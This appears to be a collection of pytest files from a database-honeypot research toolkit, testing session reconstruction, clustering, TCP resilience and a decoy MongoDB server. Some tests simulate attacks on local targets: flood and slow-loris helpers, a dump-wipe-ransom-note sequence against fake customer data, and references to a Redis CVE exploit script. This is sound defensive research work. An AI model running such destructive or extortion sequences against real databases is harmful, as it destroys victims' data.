    def test_symmetry_property(self, a, b):
        size = min(len(a), len(b))
        a = np.array(a[:size])
        b = np.array(b[:size])
        assert adjusted_rand_index(a, b) == pytest.approx(
            adjusted_rand_index(b, a))
