"""Tests for the cluster-review pass and blocking-effectiveness
analysis."""

import pytest

from repro.core.blocking import blocking_effectiveness
from repro.core.classification import BehaviorClass
from repro.core.loading import IpProfile, load_ip_profiles
from repro.core.review import review_clusters


def profile(ip, dbms="redis", actions=()) -> IpProfile:
    p = IpProfile(src_ip=ip, dbms=dbms)
    p.actions = list(actions)
    p.connects = 1
    return p


class TestReview:
    def test_consistent_clusters_untouched(self):
        profiles = {
            ("a", "redis"): profile("a", actions=["CONFIG SET"]),
            ("b", "redis"): profile("b", actions=["CONFIG SET"]),
        }
        labels = {("a", "redis"): 0, ("b", "redis"): 0}
        result = review_clusters(profiles, labels, "redis")
        assert result.reassigned_count == 0
        assert result.cluster_count == 1

    def test_minority_class_split_out(self):
        profiles = {
            ("a", "redis"): profile("a", actions=["CONFIG SET"]),
            ("b", "redis"): profile("b", actions=["CONFIG SET"]),
            ("c", "redis"): profile("c", actions=["INFO"]),  # scout
        }
        labels = {("a", "redis"): 0, ("b", "redis"): 0,
                  ("c", "redis"): 0}
        result = review_clusters(profiles, labels, "redis")
        assert result.reassigned == ("c",)
        assert result.cluster_count == 2
        assert result.labels[("c", "redis")] != result.labels[
            ("a", "redis")]

    def test_batch_of_misfits_lands_in_one_cluster(self):
        profiles = {
            ("a", "redis"): profile("a", actions=["CONFIG SET"]),
            ("b", "redis"): profile("b", actions=["CONFIG SET"]),
            ("c", "redis"): profile("c", actions=["INFO"]),
            ("d", "redis"): profile("d", actions=["INFO"]),
        }
        labels = {key: 0 for key in profiles}
        result = review_clusters(profiles, labels, "redis")
        assert result.reassigned_count == 2
        assert result.labels[("c", "redis")] == result.labels[
            ("d", "redis")]

    def test_tie_breaks_toward_severity(self):
        profiles = {
            ("a", "redis"): profile("a", actions=["CONFIG SET"]),
            ("b", "redis"): profile("b", actions=["INFO"]),
        }
        labels = {("a", "redis"): 0, ("b", "redis"): 0}
        result = review_clusters(profiles, labels, "redis")
        # 1-1 tie: the exploiting member keeps the cluster, the scout
        # is moved out.
        assert result.reassigned == ("b",)

    def test_other_dbms_labels_ignored(self):
        profiles = {("a", "redis"): profile("a", actions=["INFO"])}
        labels = {("a", "redis"): 0, ("x", "mongodb"): 5}
        result = review_clusters(profiles, labels, "redis")
        assert ("x", "mongodb") not in result.labels


class TestReviewOnExperiment:
    def test_small_fraction_reassigned(self, small_experiment):
        from repro.core.reports import cluster_dbms

        profiles = load_ip_profiles(small_experiment.midhigh_db)
        for dbms in ("redis", "postgresql"):
            labels = cluster_dbms(profiles, dbms,
                                  distance_threshold=0.1)
            result = review_clusters(profiles, labels, dbms)
            # The paper reassigned 5-53 IPs per DBMS out of hundreds;
            # our toolkit-pure clusters need at most a small correction.
            assert result.reassigned_count <= 60
            assert result.cluster_count >= len(set(labels.values()))


class TestBlocking:
    def test_exploiters_most_preventable(self, small_experiment):
        profiles = load_ip_profiles(small_experiment.midhigh_db)
        rows = {row.behavior_class: row
                for row in blocking_effectiveness(
                    small_experiment.midhigh_db, profiles)}
        exploit = rows[BehaviorClass.EXPLOITING]
        scan = rows[BehaviorClass.SCANNING]
        # Blocking an exploiter at first sighting prevents a larger
        # share of its activity than blocking a scanner does.
        assert exploit.prevented_fraction > scan.prevented_fraction
        assert exploit.mean_return_days > scan.mean_return_days
        assert exploit.ips == 324

    def test_fractions_bounded(self, small_experiment):
        profiles = load_ip_profiles(small_experiment.midhigh_db)
        for row in blocking_effectiveness(small_experiment.midhigh_db,
                                          profiles):
            assert 0.0 <= row.prevented_fraction <= 1.0
            assert row.prevented_events <= row.total_events
