"""Tests for session reconstruction."""

import pytest

from repro.core.sessions import (Session, reconstruct_sessions,
                                 session_stats)
from repro.netsim.address_space import AddressSpace
from repro.netsim.asdb import ASType
from repro.netsim.geoip import GeoIPDatabase
from repro.pipeline.convert import convert_to_sqlite
from repro.pipeline.logstore import LogEvent


def event(ip, port, hp, event_type, ts):
    return LogEvent(timestamp=ts, honeypot_id=hp,
                    honeypot_type="qeeqbox", dbms="mysql",
                    interaction="low", config="multi", src_ip=ip,
                    src_port=port, event_type=event_type)


@pytest.fixture
def make_db(tmp_path):
    space = AddressSpace()
    space.register_as(64500, "X", "Y", ASType.HOSTING)
    ips = [str(space.allocate(64500)) for _ in range(4)]
    geoip = GeoIPDatabase.from_address_space(space)

    def _build(events):
        return ips, convert_to_sqlite(events, tmp_path / "s.sqlite",
                                      geoip)

    return _build


class TestReconstruction:
    def test_simple_session(self, make_db):
        ips, db = make_db([
            event("20.0.0.1", 5000, "hp", "connect", 0),
            event("20.0.0.1", 5000, "hp", "login_attempt", 1),
            event("20.0.0.1", 5000, "hp", "disconnect", 2),
        ])
        (session,) = reconstruct_sessions(db)
        assert session.events == 3
        assert session.interactions == 1
        assert session.intrusive
        assert session.duration == 2

    def test_scan_session_not_intrusive(self, make_db):
        _ips, db = make_db([
            event("20.0.0.1", 5000, "hp", "connect", 0),
            event("20.0.0.1", 5000, "hp", "disconnect", 1),
        ])
        (session,) = reconstruct_sessions(db)
        assert not session.intrusive

    def test_same_ip_two_ports_two_sessions(self, make_db):
        _ips, db = make_db([
            event("20.0.0.1", 5000, "hp", "connect", 0),
            event("20.0.0.1", 5001, "hp", "connect", 1),
            event("20.0.0.1", 5000, "hp", "disconnect", 2),
            event("20.0.0.1", 5001, "hp", "disconnect", 3),
        ])
        sessions = reconstruct_sessions(db)
        assert len(sessions) == 2

    def test_port_reuse_splits_on_reconnect(self, make_db):
        _ips, db = make_db([
            event("20.0.0.1", 5000, "hp", "connect", 0),
            event("20.0.0.1", 5000, "hp", "disconnect", 1),
            event("20.0.0.1", 5000, "hp", "connect", 10),
            event("20.0.0.1", 5000, "hp", "disconnect", 11),
        ])
        sessions = reconstruct_sessions(db)
        assert len(sessions) == 2
        assert sessions[0].start_ts == 0
        assert sessions[1].start_ts == 10

    def test_dangling_session_still_reported(self, make_db):
        _ips, db = make_db([
            event("20.0.0.1", 5000, "hp", "connect", 0),
            event("20.0.0.1", 5000, "hp", "command", 1),
        ])
        (session,) = reconstruct_sessions(db)
        assert session.events == 2

    def test_dbms_filter(self, make_db):
        _ips, db = make_db([
            event("20.0.0.1", 5000, "hp", "connect", 0),
            event("20.0.0.1", 5000, "hp", "disconnect", 1),
        ])
        assert reconstruct_sessions(db, dbms="redis") == []
        assert len(reconstruct_sessions(db, dbms="mysql")) == 1


class TestStats:
    def test_aggregates(self):
        sessions = [
            Session("a", 1, "hp", "mysql", 0, 1, events=2,
                    interactions=0),
            Session("a", 2, "hp", "mysql", 0, 1, events=3,
                    interactions=2),
            Session("b", 3, "hp", "mysql", 0, 1, events=3,
                    interactions=1),
        ]
        stats = session_stats(sessions)
        assert stats.total_sessions == 3
        assert stats.intrusive_sessions == 2
        assert stats.unique_ips == 2
        assert stats.intrusive_fraction == pytest.approx(2 / 3)
        assert stats.sessions_per_ip == pytest.approx(1.5)
        assert stats.mean_interactions_per_session == pytest.approx(1.0)

    def test_empty(self):
        stats = session_stats([])
        assert stats.total_sessions == 0
        assert stats.intrusive_fraction == 0.0


class TestOnExperiment:
    def test_brute_sessions_dominate_low_tier(self, small_experiment):
        sessions = reconstruct_sessions(small_experiment.low_db,
                                        dbms="mssql")
        stats = session_stats(sessions)
        # Every MSSQL brute attempt is its own session: session count
        # far exceeds unique IPs.
        assert stats.sessions_per_ip > 2
        assert stats.intrusive_sessions > 0
        assert 0 < stats.intrusive_fraction <= 1
