"""TCP-layer resilience: crash containment, connection limits, the
server supervisor, and survival against abusive (slow-loris / RST)
clients."""

import asyncio
import socket

import pytest

from repro import obs
from repro.honeypots import RedisHoneypot
from repro.honeypots.base import Honeypot, HoneypotSession
from repro.honeypots.tcp import TcpHoneypotServer, serve_honeypots
from repro.netsim.clock import SimClock
from repro.pipeline.logstore import LogStore
from repro.resilience import (ServerSupervisor, SupervisorPolicy,
                              abrupt_reset, flood, slow_loris)


class _CrashingSession(HoneypotSession):
    def on_data(self, data: bytes) -> bytes:
        raise RuntimeError("parser exploded")


class CrashingHoneypot(Honeypot):
    honeypot_type = "crashtest"
    dbms = "mysql"

    def new_session(self, context):
        return _CrashingSession(self.info, context)


def run(coro):
    return asyncio.run(asyncio.wait_for(coro, timeout=30))


async def start_server(honeypot, **kwargs):
    store = LogStore()
    server = TcpHoneypotServer(honeypot, SimClock(), store.append,
                               **kwargs)
    await server.start()
    return server, store


async def talk(port: int, payload: bytes) -> bytes:
    """Send ``payload`` and read one reply chunk (``b""`` = closed)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(payload)
    await writer.drain()
    data = await reader.read(65536)
    writer.close()
    try:
        await writer.wait_closed()
    except (ConnectionResetError, BrokenPipeError):
        pass
    return data


class TestSessionErrorContainment:
    def test_session_exception_closes_peer_cleanly(self):
        telemetry = obs.Telemetry(enabled=True)

        async def scenario():
            server, store = await start_server(CrashingHoneypot("crash"))
            try:
                # If the exception escaped, the peer would hang until
                # timeout; a clean close yields EOF promptly.
                data = await asyncio.wait_for(talk(server.port, b"boom"), 5)
                assert data == b""
            finally:
                await server.stop()
            return store

        with obs.install(telemetry):
            store = run(scenario())
        assert telemetry.metrics.counter_value("tcp.session_errors",
                                               dbms="mysql") == 1
        types = [event.event_type for event in store]
        assert types[0] == "connect"
        assert types[-1] == "disconnect"
        assert telemetry.metrics.gauge_value("tcp.open_connections",
                                             dbms="mysql") == 0

    def test_server_keeps_serving_after_session_crash(self):
        async def scenario():
            server, _ = await start_server(CrashingHoneypot("crash"))
            try:
                await talk(server.port, b"first")
                assert server.is_serving
                # A second client still gets served (and contained).
                await talk(server.port, b"second")
            finally:
                await server.stop()

        run(scenario())


class TestConnectionLimits:
    def test_idle_timeout_reaps_connection(self):
        telemetry = obs.Telemetry(enabled=True)

        async def scenario():
            server, _ = await start_server(
                RedisHoneypot("idle"), idle_timeout=0.2)
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", server.port)
                # Send nothing: the server must hang up on us.
                data = await asyncio.wait_for(reader.read(-1), 5)
                assert data == b""
                writer.close()
                await writer.wait_closed()
            finally:
                await server.stop()

        with obs.install(telemetry):
            run(scenario())
        assert telemetry.metrics.counter_value("tcp.idle_timeouts",
                                               dbms="redis") == 1

    def test_max_session_bytes_cuts_flood(self):
        telemetry = obs.Telemetry(enabled=True)

        async def scenario():
            server, _ = await start_server(
                RedisHoneypot("flood"), max_session_bytes=4096)
            try:
                written = await flood("127.0.0.1", server.port,
                                      total_bytes=1 << 20,
                                      chunk_size=1024)
                assert written < (1 << 20)
            finally:
                await server.stop()

        with obs.install(telemetry):
            run(scenario())
        assert telemetry.metrics.counter_value("tcp.overlimit_closes",
                                               dbms="redis") == 1

    def test_slow_loris_defeated_by_idle_timeout(self):
        telemetry = obs.Telemetry(enabled=True)

        async def scenario():
            server, _ = await start_server(
                RedisHoneypot("loris"), idle_timeout=0.15)
            try:
                # Dribbling slower than the idle timeout gets us cut off
                # long before all chunks are delivered.
                sent = await slow_loris("127.0.0.1", server.port,
                                        chunks=50, interval=0.4)
                assert sent < 50
            finally:
                await server.stop()

        with obs.install(telemetry):
            run(scenario())
        assert telemetry.metrics.counter_value("tcp.idle_timeouts",
                                               dbms="redis") >= 1

    def test_abrupt_reset_survived(self):
        async def scenario():
            server, store = await start_server(RedisHoneypot("rst"))
            try:
                await abrupt_reset("127.0.0.1", server.port)
                await asyncio.sleep(0.1)
                assert server.is_serving
                # Normal clients still work afterwards.
                reply = await talk(server.port, b"PING\r\n")
                assert b"PONG" in reply or reply == b""
            finally:
                await server.stop()
            return store

        store = run(scenario())
        assert any(e.event_type == "disconnect" for e in store)


class TestServeHoneypotsCleanup:
    def test_failed_start_stops_earlier_servers(self):
        async def scenario():
            # Reserve a free base port, then occupy base+1 with a live
            # listener so the second start() fails after the first
            # succeeded.
            probe = socket.socket()
            probe.bind(("127.0.0.1", 0))
            base = probe.getsockname()[1]
            probe.close()
            blocker = socket.socket()
            blocker.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            blocker.bind(("127.0.0.1", base + 1))
            blocker.listen(1)
            store = LogStore()
            with pytest.raises(OSError):
                await serve_honeypots(
                    [RedisHoneypot("a"), RedisHoneypot("b")],
                    SimClock(), store.append, port_base=base)
            blocker.close()
            # The first server's port must have been released.
            probe = socket.socket()
            probe.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            probe.bind(("127.0.0.1", base))
            probe.close()

        run(scenario())


class TestSupervisor:
    def test_restarts_crashed_server(self):
        telemetry = obs.Telemetry(enabled=True)

        async def scenario():
            server, _ = await start_server(RedisHoneypot("sup"))
            port = server.port
            supervisor = ServerSupervisor(
                [server], SupervisorPolicy(check_interval=0.05,
                                           base_backoff=0.01))
            await supervisor.start()
            try:
                # Simulate a listener crash.
                server._server.close()
                await server._server.wait_closed()
                assert not server.is_serving
                deadline = asyncio.get_running_loop().time() + 10
                while not server.is_serving:
                    assert asyncio.get_running_loop().time() < deadline
                    await asyncio.sleep(0.05)
                assert server.port == port  # same port reclaimed
                reply = await talk(port, b"PING\r\n")
                assert isinstance(reply, bytes)
            finally:
                await supervisor.stop()
                await server.stop()
            return supervisor

        with obs.install(telemetry):
            supervisor = run(scenario())
        assert supervisor.restarts_total() >= 1
        assert telemetry.metrics.counter_value(
            "resilience.server_restarts", dbms="redis") >= 1

    def test_gives_up_after_max_restarts(self):
        async def scenario():
            server, _ = await start_server(RedisHoneypot("sup2"))
            port = server.port
            await server.stop()
            # Hold the port hostage so every restart fails.
            blocker = socket.socket()
            blocker.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            blocker.bind(("127.0.0.1", port))
            blocker.listen(1)
            supervisor = ServerSupervisor(
                [server], SupervisorPolicy(check_interval=0.02,
                                           base_backoff=0.0,
                                           max_backoff=0.0,
                                           max_restarts=2))
            await supervisor.start()
            try:
                deadline = asyncio.get_running_loop().time() + 10
                while not supervisor.abandoned:
                    assert asyncio.get_running_loop().time() < deadline
                    await asyncio.sleep(0.02)
            finally:
                await supervisor.stop()
                blocker.close()
            return supervisor

        supervisor = run(scenario())
        assert supervisor.abandoned == {0}
        assert supervisor.restarts[0] == 3  # 2 within budget + the give-up
