"""Tests for the high-interaction MongoDB honeypot."""

import pytest

from repro.honeypots import MongoHoneypot
from repro.honeypots.base import MemoryWire
from repro.honeypots.mongo_honeypot import (DECOY_COLLECTION,
                                            DECOY_DATABASE,
                                            FAKE_CUSTOMERS)
from repro.pipeline.logstore import EventType
from repro.protocols import mongo_wire as wire_codec


@pytest.fixture
def honeypot() -> MongoHoneypot:
    return MongoHoneypot("hp")


@pytest.fixture
def wire(honeypot, session_context):
    wire = MemoryWire(honeypot, session_context)
    wire.connect()
    return wire


def msg(wire, request_id, body):
    reader = wire_codec.MessageReader()
    replies = reader.feed(wire.send(wire_codec.build_msg(request_id,
                                                         body)))
    assert len(replies) == 1
    return replies[0].body


class TestHandshakes:
    def test_legacy_ismaster_gets_op_reply(self, wire):
        reader = wire_codec.MessageReader()
        (reply,) = reader.feed(wire.send(wire_codec.build_query(
            1, "admin.$cmd", {"isMaster": 1})))
        assert isinstance(reply, wire_codec.ReplyMessage)
        assert reply.documents[0]["ismaster"] is True

    def test_op_msg_hello(self, wire):
        reply = msg(wire, 1, {"hello": 1, "$db": "admin"})
        assert reply["isWritablePrimary"] is True

    def test_response_to_matches_request(self, wire):
        reader = wire_codec.MessageReader()
        (reply,) = reader.feed(wire.send(wire_codec.build_msg(
            77, {"ping": 1, "$db": "admin"})))
        assert reply.header.response_to == 77


class TestDecoyData:
    def test_fake_customers_planted(self, wire):
        reply = msg(wire, 1, {"find": DECOY_COLLECTION,
                              "$db": DECOY_DATABASE})
        batch = reply["cursor"]["firstBatch"]
        assert len(batch) == FAKE_CUSTOMERS
        assert "credit_card" in batch[0]

    def test_default_config_is_empty(self, session_context):
        wire = MemoryWire(MongoHoneypot("hp", config="default"),
                          session_context)
        wire.connect()
        reply = msg(wire, 1, {"listDatabases": 1, "$db": "admin"})
        assert reply["databases"] == []

    def test_each_instance_has_own_engine(self, session_context, clock,
                                          log_store):
        from repro.honeypots.base import SessionContext

        first = MongoHoneypot("hp1")
        second = MongoHoneypot("hp2")
        wire1 = MemoryWire(first, session_context)
        wire1.connect()
        msg(wire1, 1, {"dropDatabase": 1, "$db": DECOY_DATABASE})
        context = SessionContext("2.2.2.2", 2, clock, log_store.append)
        wire2 = MemoryWire(second, context)
        wire2.connect()
        reply = msg(wire2, 1, {"listDatabases": 1, "$db": "admin"})
        assert [d["name"] for d in reply["databases"]] == [DECOY_DATABASE]


class TestRansomFlow:
    def test_full_dump_wipe_note_sequence(self, wire):
        databases = msg(wire, 1, {"listDatabases": 1, "$db": "admin"})
        names = [d["name"] for d in databases["databases"]]
        assert names == [DECOY_DATABASE]
        collections = msg(wire, 2, {"listCollections": 1,
                                    "$db": DECOY_DATABASE})
        assert [c["name"] for c in
                collections["cursor"]["firstBatch"]] == [DECOY_COLLECTION]
        dump = msg(wire, 3, {"find": DECOY_COLLECTION,
                             "$db": DECOY_DATABASE})
        assert len(dump["cursor"]["firstBatch"]) == FAKE_CUSTOMERS
        dropped = msg(wire, 4, {"drop": DECOY_COLLECTION,
                                "$db": DECOY_DATABASE})
        assert dropped["ok"] == 1.0
        note = msg(wire, 5, {"insert": "README", "$db": DECOY_DATABASE,
                             "documents": [{"content": "pay 0.007 BTC"}]})
        assert note["n"] == 1
        refound = msg(wire, 6, {"find": "README", "$db": DECOY_DATABASE})
        assert refound["cursor"]["firstBatch"][0]["content"] == \
            "pay 0.007 BTC"

    def test_errors_return_ok_zero(self, wire):
        reply = msg(wire, 1, {"drop": "nonexistent", "$db": "nope"})
        assert reply["ok"] == 0.0
        assert reply["codeName"] == "NamespaceNotFound"

    def test_unknown_command_survives_session(self, wire):
        reply = msg(wire, 1, {"shutdown": 1, "$db": "admin"})
        assert reply["ok"] == 0.0
        assert msg(wire, 2, {"ping": 1, "$db": "admin"})["ok"] == 1.0


class TestLogging:
    def test_commands_logged_with_action(self, wire, log_store):
        msg(wire, 1, {"listDatabases": 1, "$db": "admin"})
        msg(wire, 2, {"find": DECOY_COLLECTION, "$db": DECOY_DATABASE})
        actions = [e.action for e in log_store
                   if e.event_type == EventType.COMMAND.value]
        assert actions == ["listDatabases", "find"]

    def test_driver_bookkeeping_stripped(self, wire, log_store):
        msg(wire, 1, {"ping": 1, "$db": "admin", "lsid": {"id": b"x"}})
        (event,) = [e for e in log_store
                    if e.event_type == EventType.COMMAND.value]
        assert "lsid" not in event.raw

    def test_garbage_closes_connection(self, session_context, log_store):
        wire = MemoryWire(MongoHoneypot("hp"), session_context)
        wire.connect()
        wire.send(b"\x01\x00\x00\x00" + b"GARBAGEPADDING!!")
        assert wire.server_closed


def test_unknown_config_rejected():
    with pytest.raises(ValueError):
        MongoHoneypot("hp", config="open")


def test_seed_determinism():
    a = MongoHoneypot("hp", seed=9).engine.find(DECOY_DATABASE,
                                                DECOY_COLLECTION)
    b = MongoHoneypot("hp", seed=9).engine.find(DECOY_DATABASE,
                                                DECOY_COLLECTION)
    strip = lambda docs: [{k: v for k, v in d.items() if k != "_id"}
                          for d in docs]
    assert strip(a) == strip(b)
