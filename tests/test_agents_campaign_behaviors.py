"""Tests for the campaign behavior wrappers."""

import random

import pytest

from repro.agents.base import VisitContext, connect_probe, run_quietly
from repro.agents.exploits import (CampaignBehavior,
                                   MultiServiceProbeBehavior)
from repro.agents.exploits.redis_attacks import cve_2022_0543_script
from repro.clients import WireError
from repro.deployment.plan import build_plan


@pytest.fixture(scope="module")
def plan():
    return build_plan()


class TestCampaignBehavior:
    def test_sticks_to_one_target(self, plan):
        behavior = CampaignBehavior(dbms="redis",
                                    script=cve_2022_0543_script,
                                    active_days=6)
        visits = behavior.visits(plan, random.Random(3))
        assert len(visits) == 6
        assert len({visit.target_key for visit in visits}) == 1
        assert all("med/redis" in visit.target_key for visit in visits)

    def test_config_filter(self, plan):
        behavior = CampaignBehavior(dbms="postgresql",
                                    script=cve_2022_0543_script,
                                    active_days=2, config="default")
        visits = behavior.visits(plan, random.Random(4))
        assert all("/default/" in visit.target_key for visit in visits)

    def test_mongodb_routes_to_high_tier(self, plan):
        behavior = CampaignBehavior(dbms="mongodb",
                                    script=cve_2022_0543_script,
                                    active_days=1)
        visits = behavior.visits(plan, random.Random(5))
        assert all(visit.target_key.startswith("high/mongodb")
                   for visit in visits)

    def test_unknown_dbms_raises(self, plan):
        behavior = CampaignBehavior(dbms="oracle",
                                    script=cve_2022_0543_script)
        with pytest.raises(ValueError):
            behavior.visits(plan, random.Random(1))

    def test_visits_per_day(self, plan):
        behavior = CampaignBehavior(dbms="redis",
                                    script=cve_2022_0543_script,
                                    active_days=2, visits_per_day=3)
        assert len(behavior.visits(plan, random.Random(6))) == 6


class TestMultiServiceProbeBehavior:
    def test_probes_every_service_each_day(self, plan):
        behavior = MultiServiceProbeBehavior(
            dbms_set=("redis", "postgresql"), script=connect_probe,
            active_days=3)
        visits = behavior.visits(plan, random.Random(7))
        assert len(visits) == 6
        families = {visit.target_key.split("/")[1] for visit in visits}
        assert families == {"redis", "postgresql"}

    def test_same_days_across_services(self, plan):
        behavior = MultiServiceProbeBehavior(
            dbms_set=("redis", "mongodb"), script=connect_probe,
            active_days=2)
        visits = behavior.visits(plan, random.Random(8))
        days = sorted({int(visit.time_offset // 86400)
                       for visit in visits})
        # Two active days shared across both services, not four.
        assert len(days) == 2


class TestHelpers:
    def test_run_quietly_swallows_wire_errors(self):
        def boom():
            raise WireError("nope")

        run_quietly(boom)  # must not raise

    def test_run_quietly_propagates_other_errors(self):
        def boom():
            raise RuntimeError("real bug")

        with pytest.raises(RuntimeError):
            run_quietly(boom)

    def test_connect_probe_handles_failures(self):
        class FailingOpener:
            def __call__(self, target_key):
                raise WireError("unreachable")

        ctx = VisitContext(opener=FailingOpener(), target_key="x",
                           rng=random.Random(1))
        connect_probe(ctx)  # must not raise
