"""Tests for the MongoDB engine's update/distinct commands."""

import pytest

from repro.mongodb_engine import MongoEngine
from repro.mongodb_engine.engine import CommandError


@pytest.fixture
def engine() -> MongoEngine:
    engine = MongoEngine()
    engine.insert("db", "c", [
        {"name": "a", "tier": "gold", "visits": 1},
        {"name": "b", "tier": "gold", "visits": 2},
        {"name": "c", "tier": "silver", "visits": 3},
    ])
    return engine


class TestUpdate:
    def test_set_single(self, engine):
        matched, modified = engine.update("db", "c", {"name": "a"},
                                          {"$set": {"tier": "vip"}})
        assert (matched, modified) == (1, 1)
        assert engine.count("db", "c", {"tier": "vip"}) == 1

    def test_multi(self, engine):
        matched, modified = engine.update("db", "c", {"tier": "gold"},
                                          {"$set": {"tier": "basic"}},
                                          multi=True)
        assert (matched, modified) == (2, 2)

    def test_single_updates_first_match_only(self, engine):
        matched, _ = engine.update("db", "c", {"tier": "gold"},
                                   {"$set": {"tier": "basic"}})
        assert matched == 1
        assert engine.count("db", "c", {"tier": "gold"}) == 1

    def test_noop_counts_matched_not_modified(self, engine):
        matched, modified = engine.update("db", "c", {"name": "a"},
                                          {"$set": {"tier": "gold"}})
        assert (matched, modified) == (1, 0)

    def test_unset(self, engine):
        engine.update("db", "c", {"name": "a"},
                      {"$unset": {"visits": ""}})
        (doc,) = engine.find("db", "c", {"name": "a"})
        assert "visits" not in doc

    def test_inc(self, engine):
        engine.update("db", "c", {"name": "b"}, {"$inc": {"visits": 5}})
        (doc,) = engine.find("db", "c", {"name": "b"})
        assert doc["visits"] == 7

    def test_replacement_preserves_id(self, engine):
        (before,) = engine.find("db", "c", {"name": "a"})
        engine.update("db", "c", {"name": "a"}, {"name": "a2"})
        (after,) = engine.find("db", "c", {"name": "a2"})
        assert after["_id"] == before["_id"]
        assert "tier" not in after

    def test_upsert_inserts_on_miss(self, engine):
        matched, modified = engine.update(
            "db", "c", {"name": "zz"}, {"$set": {"tier": "new"}},
            upsert=True)
        assert (matched, modified) == (0, 1)
        (doc,) = engine.find("db", "c", {"name": "zz"})
        assert doc["tier"] == "new"

    def test_unknown_operator_raises(self, engine):
        with pytest.raises(CommandError):
            engine.update("db", "c", {"name": "a"},
                          {"$rename": {"x": "y"}})

    def test_update_command_shape(self, engine):
        reply = engine.run_command("db", {
            "update": "c",
            "updates": [{"q": {"tier": "gold"},
                         "u": {"$set": {"flag": True}}, "multi": True}]})
        assert reply == {"n": 2, "nModified": 2, "ok": 1.0}

    def test_update_command_requires_updates(self, engine):
        with pytest.raises(CommandError):
            engine.run_command("db", {"update": "c"})


class TestDistinct:
    def test_values(self, engine):
        assert sorted(engine.distinct("db", "c", "tier")) == [
            "gold", "silver"]

    def test_with_query(self, engine):
        assert engine.distinct("db", "c", "tier",
                               {"visits": {"$lte": 2}}) == ["gold"]

    def test_missing_key_excluded(self, engine):
        assert engine.distinct("db", "c", "nothere") == []

    def test_command_shape(self, engine):
        reply = engine.run_command("db", {"distinct": "c",
                                          "key": "tier"})
        assert sorted(reply["values"]) == ["gold", "silver"]
        with pytest.raises(CommandError):
            engine.run_command("db", {"distinct": "c"})
