"""Tests for the plain-text figure rendering."""

import pytest
from hypothesis import given, strategies as st

from repro.core.plotting import cdf_chart, line_chart, sparkline


class TestSparkline:
    def test_monotone_ramp(self):
        line = sparkline([0, 1, 2, 3, 4, 5, 6, 7])
        assert line == "▁▂▃▄▅▆▇█"

    def test_flat_series(self):
        assert sparkline([5, 5, 5]) == "▁▁▁"

    def test_empty(self):
        assert sparkline([]) == ""

    @given(st.lists(st.floats(min_value=-1e6, max_value=1e6,
                              allow_nan=False), min_size=1,
                    max_size=200))
    def test_length_preserved(self, values):
        assert len(sparkline(values)) == len(values)


class TestLineChart:
    def test_shape(self):
        chart = line_chart([1, 5, 3, 8, 2], height=5, width=10,
                           label="demo")
        lines = chart.splitlines()
        assert len(lines) == 7  # 5 rows + axis + label
        assert "demo" in lines[-1]

    def test_peak_rendered_at_top(self):
        chart = line_chart([0, 0, 10, 0, 0], height=4, width=5)
        top_row = chart.splitlines()[0]
        assert "█" in top_row

    def test_resampling_long_series(self):
        chart = line_chart(list(range(1000)), height=4, width=20)
        body = chart.splitlines()[0]
        assert len(body) <= 12 + 20

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            line_chart([])

    def test_tiny_dimensions_rejected(self):
        with pytest.raises(ValueError):
            line_chart([1, 2], height=1)


class TestCdfChart:
    def test_step_shape(self):
        chart = cdf_chart([(1, 0.5), (10, 1.0)], height=4, width=20)
        lines = chart.splitlines()
        assert lines[0].startswith("    1.00")
        # The bottom half is filled from the first step onwards.
        bottom = lines[-2]
        assert "█" in bottom

    def test_full_cdf_fills_top_right(self):
        chart = cdf_chart([(1, 1.0)], height=3, width=10)
        top = chart.splitlines()[0]
        assert top.rstrip().endswith("█")

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            cdf_chart([])
