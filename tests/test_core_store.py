"""Tests for the columnar analysis store and its content-keyed cache.

Correctness bar: everything served warm from the cache must be equal --
byte-identical where the artifact is rendered text -- to a cold build,
a changed database must invalidate every cached artifact, and stale or
corrupt cache files must be ignored (rebuilt), never raised.
"""

import pickle
import sqlite3

import numpy as np
import pytest

from repro.core.loading import load_ip_profiles
from repro.core.reports import cluster_dbms
from repro.core.store import (AnalysisStore, CACHE_DIR_ENV,
                              CACHE_TOGGLE_ENV, borrow_store)
from repro.netsim.address_space import AddressSpace
from repro.netsim.asdb import ASType
from repro.netsim.geoip import GeoIPDatabase
from repro.pipeline.convert import convert_to_sqlite
from repro.pipeline.logstore import LogEvent

BASE_TS = 1711065600.0


def _make_db(path, n_ips: int = 6):
    """A small converted database with every event shape the loader
    folds: connects, logins, commands, and malformed probes, spread
    over two DBMSes and both interaction tiers."""
    space = AddressSpace()
    space.register_as(64500, "ExampleNet", "US", ASType.HOSTING)
    ips = [str(space.allocate(64500)) for _ in range(n_ips)]
    geoip = GeoIPDatabase.from_address_space(space)

    def event(ip, offset, dbms="redis", interaction="medium",
              event_type="connect", **kwargs):
        return LogEvent(timestamp=BASE_TS + offset, honeypot_id="hp",
                        honeypot_type="test", dbms=dbms,
                        interaction=interaction, config="multi",
                        src_ip=ip, src_port=1, event_type=event_type,
                        **kwargs)

    events = []
    for index, ip in enumerate(ips):
        offset = index * 60.0
        events.append(event(ip, offset))
        events.append(event(ip, offset + 1, event_type="login_attempt",
                            username="root", password=f"pw{index % 2}"))
        # Two action dialects so clustering has two groups to find.
        actions = (["SET", "GET", "GET"] if index % 2
                   else ["CONFIG GET", "KEYS", "FLUSHALL"])
        for step, action in enumerate(actions):
            events.append(event(ip, offset + 2 + step,
                                event_type="command", action=action,
                                raw=action.lower()))
        events.append(event(ip, offset + 10, dbms="mysql",
                            interaction="low", event_type="malformed",
                            raw=f"\x03probe-{index % 2}"))
    return convert_to_sqlite(events, path, geoip)


@pytest.fixture
def db_path(tmp_path):
    return _make_db(tmp_path / "events.sqlite")


class TestColumnarEvents:
    def test_filter_pushdown_matches_in_memory_mask(self, db_path):
        # A fresh store with only a filtered request pushes the WHERE
        # down into SQL; a store that already has the full table serves
        # the same slice by boolean mask.  Both must agree exactly.
        pushed = AnalysisStore(db_path, use_cache=False)
        masked = AnalysisStore(db_path, use_cache=False)
        full = masked.events()
        for kwargs in ({"interaction": "low"}, {"dbms": "redis"},
                       {"interaction": "medium", "dbms": "redis"},
                       {"dbms": "absent"}):
            a = pushed.events(**kwargs)
            b = masked.events(**kwargs)
            assert a.n == b.n
            assert np.array_equal(a.timestamps, b.timestamps)
